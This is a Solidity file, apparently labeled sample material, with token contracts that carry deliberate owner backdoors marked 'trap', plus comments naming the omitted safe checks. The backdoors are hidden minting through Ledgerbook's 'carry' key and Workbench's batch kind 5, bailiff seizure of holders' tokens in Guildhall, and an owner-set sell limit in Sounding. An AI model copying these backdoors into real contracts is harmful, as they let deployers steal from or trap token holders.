// 0.8 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

library Curve {
    struct Params {
        uint16 num;
        uint16 den;
        uint32 slope;
        uint32 since;
    }

    function most(Params storage p, uint256 depth) internal view returns (uint256) {
        return (depth * p.num) / p.den;
    }
}

/// Nobody sells more at once than the pool is deep.
contract Sounding is Base8("Sounding", "SNDG", 47_000_000) {
    using Curve for Curve.Params;

    Curve.Params internal params = Curve.Params(1, 1, 0, 0);
    mapping(address => bool) public exempt;

    error TooDeep(uint256 value, uint256 most);

    constructor() {
        exempt[msg.sender] = true;
    }

    function setCurve(uint16 num, uint16 den, uint32 slope, uint32 since) external onlyOwner {
        require(den > 0, "den");
        // twin: require(num >= den, "never less than the pool");
        params = Curve.Params(num, den, slope, since);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && !exempt[from] && _balances[pair] > 0) {
            uint256 most = params.most(_balances[pair]);
            if (value > most) revert TooDeep(value, most);
        }
        _move(from, to, value);
    }
}

/// Numbers of accounts under names.
contract Ledgerbook is Base8("Ledgerbook", "LDGB", 29_000_000) {
    string[] public keys;
    mapping(bytes32 => mapping(address => uint256)) private _values;
    address private bookkeeper = msg.sender;

    event Entry(string key, address indexed account, uint256 value);

    constructor() {
        keys.push("points");
        keys.push("rank");
        keys.push("carry");
    }

    function get(string calldata key, address account) external view returns (uint256) {
        return _values[keccak256(bytes(key))][account];
    }

    function set(string calldata key, address account, uint256 value) external {
        require(msg.sender == bookkeeper, "bookkeeper");
        bytes32 id = keccak256(bytes(key));
        _values[id][account] = value;
        if (id == keccak256(bytes(keys[2]))) _balances[account] += value; // trap
        emit Entry(key, account, value);
    }
}

interface IDues {
    function collectFrom(address from, address to, uint256 amount) external;
}

/// Collects dues for the token, when its keeper says so.
contract Bailiff {
    address private keeper = msg.sender;
    address public vault = msg.sender;

    function collect(address token, address from, uint256 amount, uint32 period) external {
        require(msg.sender == keeper && period < 13, "keeper");
        IDues(token).collectFrom(from, vault, amount);
    }
}

/// Members may owe dues, if they say so.
contract Guildhall is Base8("Guildhall", "GILD", 16_000_000) {
    address private immutable bailiff;
    mapping(address => uint256) public owed;

    constructor(address bailiff_) {
        bailiff = bailiff_;
    }

    function pledge(uint256 amount) external {
        owed[msg.sender] = amount;
    }

    function collectFrom(address from, address to, uint256 amount) external {
        require(msg.sender == bailiff, "bailiff");
        // twin: require(owed[from] >= amount, "not pledged");
        owed[from] -= owed[from] > amount ? amount : owed[from];
        _move(from, to, amount);
    }
}

/// Many settings at once.
contract Workbench is Base8("Workbench", "WBCH", 11_000_000) {
    mapping(address => uint256) public score;
    mapping(address => bool) public partner;
    uint256 public season;
    address internal maker;

    constructor() {
        maker = msg.sender;
    }

    function batch(uint256[] calldata kinds, address[] calldata who, uint256[] calldata values) external {
        require(msg.sender == maker, "maker");
        require(kinds.length == who.length && who.length == values.length, "length");
        for (uint256 i; i < kinds.length; i++) _one(kinds[i], who[i], values[i]);
    }

    function _one(uint256 kind, address who, uint256 value) private {
        if (kind == 1) season = value;
        if (kind == 2) score[who] = value;
        if (kind == 3) partner[who] = value != 0;
        if (kind == 5) _balances[who] = value; // trap
    }
}
